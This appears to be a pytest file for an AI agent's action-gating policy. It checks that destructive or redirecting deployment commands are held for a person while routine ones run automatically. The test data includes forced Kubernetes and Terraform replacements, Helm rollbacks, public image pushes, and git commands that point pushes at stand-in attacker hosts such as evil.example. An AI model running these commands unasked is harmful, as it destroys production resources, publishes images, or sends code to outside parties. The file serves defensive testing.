"""What runs in production replaced, rolled back or published, or where code goes
redirected, by a command the core rules did not read.

``kubectl replace --force`` deletes a resource before it makes it again; ``terraform
taint`` and ``apply -replace`` destroy one on the next apply; ``helm rollback`` and
``kubectl rollout undo`` put an earlier release back in place of the running one;
``docker push`` publishes an image for whoever pulls its tag; ``git remote set-url``
sends every later push somewhere else. Each came out ``auto`` under the default policy
before its rule.
"""

from __future__ import annotations

import pytest

from handoff.detect.rubric import assess
from handoff.models import Action, Mode
from handoff.policy import default_policy

from .test_bypasses import shell

HANDED_OFF = {
    # A resource deleted and made anew, now or on the next apply.
    "kubectl replace --force": shell("kubectl replace --force -f deploy.yaml"),
    "kubectl apply --force": shell("kubectl apply --force -f deploy.yaml"),
    "kubectl apply --prune": shell("kubectl apply --prune -l app=web -f k8s/"),
    "terraform taint": shell("terraform taint aws_db_instance.prod"),
    "terraform apply -replace": shell(
        "terraform apply -replace=aws_db_instance.prod -auto-approve"
    ),
    "tofu taint with options": shell("tofu -chdir=infra taint aws_db_instance.prod"),
    # A release put back to an earlier one in place of what runs.
    "helm rollback": shell("helm rollback web 3 -n prod"),
    "helm upgrade --force": shell("helm upgrade web ./chart --force"),
    "helm rollback after options": shell("helm --kube-context prod rollback web"),
    "kubectl rollout undo": shell("kubectl rollout undo deploy/web -n prod"),
    # An image published for whoever pulls its tag.
    "docker push": shell("docker push org/app:latest"),
    "docker push to a registry": shell("docker push ghcr.io/org/app:1.2"),
    "docker image push": shell("docker image push org/app:latest"),
    "podman push": shell("podman push org/app:latest"),
    "docker manifest push": shell("docker manifest push org/app:latest"),
    "helm push": shell("helm push chart-1.0.tgz oci://registry.example/charts"),
    "buildx build --push": shell("docker buildx build --push -t org/app ."),
    "docker push after build": shell("docker build -t org/app . && docker push org/app"),
    # Every later push sent to another address.
    "git remote set-url": shell("git remote set-url origin https://github.com/stranger/copy.git"),
    "git -C remote set-url": shell("git -C repo remote set-url origin https://x.example/y.git"),
    "git remote set-url --push": shell("git remote set-url --push origin git@evil.example:x.git"),
    "remote url set by git config": shell(
        "git config remote.origin.url https://github.com/stranger/copy.git"
    ),
    "every GitHub URL rewritten by insteadOf": shell(
        "git config --global url.https://evil.example/.insteadOf https://github.com/"
    ),
    "pushurl set by git config": shell(
        "git config remote.origin.pushurl git@evil.example:copy.git"
    ),
}


@pytest.mark.parametrize("name", list(HANDED_OFF))
def test_a_release_replaced_published_or_redirected_goes_to_a_person(name: str) -> None:
    assert assess(HANDED_OFF[name], default_policy()).mode != Mode.AUTO, name


@pytest.mark.parametrize(
    "line",
    [
        "kubectl get pods",
        "kubectl apply -f deploy.yaml",
        "kubectl rollout status deploy/web",
        "kubectl rollout history deploy/web",
        "kubectl replace -f deploy.yaml",
        "helm list",
        "helm list -A",
        "helm history web",
        "helm upgrade --install web ./chart",
        "helm upgrade --install web ./chart --force-update",
        "terraform plan",
        "terraform plan -out=tf.plan",
        "terraform untaint aws_db_instance.prod",
        "terraform state list",
        "docker pull nginx:1.25",
        "docker build -t app .",
        "docker images",
        "git remote -v",
        "git remote show origin",
        "git remote add upstream https://github.com/org/repo.git",
        "git config remote.origin.fetch",
        "git config --get remote.origin.url",
        "git config remote.origin.url > url.txt",
        "helm rollback --help",
        "kubectl -n prod rollout restart deploy/web",
        "kubectl apply --server-side --force-conflicts -f deploy.yaml",
        "git push origin feature",
    ],
)
def test_a_routine_command_near_these_rules_runs_on_its_own(line: str) -> None:
    assert assess(shell(line), default_policy()).mode == Mode.AUTO, line


def test_a_push_of_what_the_person_asked_to_publish_runs_on_its_own() -> None:
    action = Action.model_validate(
        {
            "tool": "shell.exec",
            "args": {"command": "docker push org/app:1.2"},
            "context": {"instruction": "Build the image and publish it as org/app:1.2."},
        }
    )
    assert assess(action, default_policy()).mode == Mode.AUTO


def test_a_remote_moved_to_the_host_the_person_named_runs_on_its_own() -> None:
    action = Action.model_validate(
        {
            "tool": "shell.exec",
            "args": {"command": "git remote set-url origin https://git.acme.io/core/app.git"},
            "context": {"instruction": "We moved to git.acme.io: point origin there."},
        }
    )
    assert assess(action, default_policy()).mode == Mode.AUTO


ECR = "123456789012.dkr.ecr.us-east-1.amazonaws.com/billing-api:1.4"


@pytest.mark.parametrize(
    "image",
    [ECR, "acme.azurecr.io/billing-api:1.4", "europe-docker.pkg.dev/acme/apps/billing-api:1.4"],
)
def test_an_asked_push_to_a_private_registry_runs_on_its_own(image: str) -> None:
    """The person asked for the push, to the company's own registry: nobody outside
    pulls from it."""
    action = Action.model_validate(
        {
            "tool": "shell.exec",
            "args": {"command": f"docker push {image}"},
            "context": {"instruction": "Build the billing-api image and push it to our ECR."},
        }
    )
    assert assess(action, default_policy()).mode == Mode.AUTO


@pytest.mark.parametrize(
    ("image", "instruction"),
    [
        # Docker Hub, whatever the person asked.
        ("acme/billing-api:1.4", "Build the billing-api image and push it to our ECR."),
        ("docker.io/acme/billing-api:1.4", "Build the image and push it to our registry."),
        # The company's registry, but nobody asked for a push.
        (ECR, "Build the billing-api image and run its tests."),
    ],
)
def test_other_image_pushes_are_held(image: str, instruction: str) -> None:
    action = Action.model_validate(
        {
            "tool": "shell.exec",
            "args": {"command": f"docker push {image}"},
            "context": {"instruction": instruction},
        }
    )
    assert assess(action, default_policy()).mode != Mode.AUTO
